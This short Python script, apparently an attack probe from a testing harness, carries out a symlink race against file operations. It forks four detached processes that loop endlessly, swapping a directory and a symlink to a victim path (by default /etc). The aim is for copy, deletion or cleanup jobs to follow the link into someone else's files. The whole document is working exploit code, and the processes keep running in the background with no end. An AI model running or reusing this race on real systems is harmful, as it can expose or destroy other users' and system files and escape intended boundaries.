"""Swap a folder and a link to somebody's files without end, while they are copied, wiped or collected."""

import os

from probe import facts, tried

target = facts()["victim"] or "/etc"
for number in range(4):
    if os.fork() == 0:
        os.setsid()
        os.makedirs(f"real{number}/deep", exist_ok=True)
        while True:
            try:
                os.symlink(target, f"link{number}")
                os.rename(f"real{number}", f"kept{number}")
                os.rename(f"link{number}", f"real{number}")
                os.rename(f"real{number}", f"link{number}")
                os.rename(f"kept{number}", f"real{number}")
                os.unlink(f"link{number}")
            except OSError:
                os.makedirs(f"real{number}/deep", exist_ok=True)
tried("race")
